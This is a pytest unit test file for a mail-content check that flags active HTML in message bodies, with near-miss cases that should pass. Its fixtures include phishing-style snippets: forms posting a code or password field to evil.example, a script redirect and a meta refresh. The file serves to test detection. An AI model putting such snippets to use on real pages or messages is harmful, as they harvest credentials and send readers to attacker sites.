# SPDX-License-Identifier: GPL-3.0-or-later
from __future__ import annotations

import pytest

from postward.checks.content.body.active_html import CHECK
from tests.unit.checks.content.body.attaching import html
from tests.unit.checks.content.letters import found


@pytest.mark.parametrize(
    ("body", "names"),
    [
        ('<form action="https://evil.example/x" method="post"><input name="code"></form>', ["HTML_FORM"]),
        ('<form action="https://evil.example/x"><input type="password"></form>', ["HTML_FORM", "HTML_PASSWORD_FIELD"]),
        ("<script>document.location = 'https://evil.example/'</script>", ["HTML_SCRIPT"]),
        ('<meta http-equiv="refresh" content="0; url=https://evil.example/">', ["HTML_REFRESH"]),
    ],
)
def test_what_acts(body, names):
    assert found(CHECK, html(body)) == names


@pytest.mark.parametrize(
    "body",
    [
        "<p>Fill in the form, and choose a password.</p>",
        '<script type="application/ld+json">{"@type": "Order"}</script>',
        '<meta http-equiv="Content-Type" content="text/html">',
        "<!-- <script>x()</script> -->",
    ],
)
def test_near_misses(body):
    assert found(CHECK, html(body)) == []
